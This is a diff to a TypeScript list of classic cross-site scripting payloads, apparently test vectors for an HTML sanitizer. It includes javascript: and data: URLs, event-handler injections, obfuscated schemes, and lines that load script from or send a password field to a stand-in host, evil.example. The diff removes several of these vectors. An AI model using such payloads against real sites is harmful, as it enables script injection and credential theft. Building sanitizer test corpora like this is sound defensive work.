@@ -30,10 +30,6 @@ export const CLASSICS: readonly string[] = `
 <object data="data:text/html,<script>alert(1)</script>"></object>
 <embed src=javascript:alert(1)>
 <embed src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>">
-<a href=javascript:alert(1)>x</a>
-<a href="java&#10;script:alert(1)">x</a>
-<a href="&#1;javascript:alert(1)">x</a>
-<a href="javascript&colon;alert(1)">x</a>
 <a href="javas&Tab;cript:alert(1)">x</a>
 <a href=" &#14; javascript:alert(1)">x</a>
 <a href="data:text/html,<script>alert(1)</script>" target=_top>x</a>
@@ -90,7 +86,6 @@ export const CLASSICS: readonly string[] = `
 <button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y</p>
 <p oncontentvisibilityautostatechange=alert(1) style="display:block;content-visibility:auto">x</p>
 <div style="position:fixed;inset:0;z-index:99999"><a href="/x">all over the page</a></div>
-<SCRIPT SRC=//evil.example/x.js></SCRIPT>
 <script/src="data:,alert(1)"></script>
 <<script>alert(1)//<</script>
 <img/src="/uploads/a.webp"/onload=alert(1)>
@@ -102,8 +97,6 @@ export const CLASSICS: readonly string[] = `
 <img src="//evil.example/x.png">
 <img src="http://evil.example/x.png">
 <image src="/uploads/a.webp" onerror=alert(1)>
-<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
-<body onload=alert(1)><p onclick=alert(1)>x</p></body>
 <p style="background:url(javascript:alert(1));width:expression(alert(1))">x</p>
 <form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>
 <video src="javascript:alert(1)" onerror=alert(1)><source onerror=alert(1)></video>
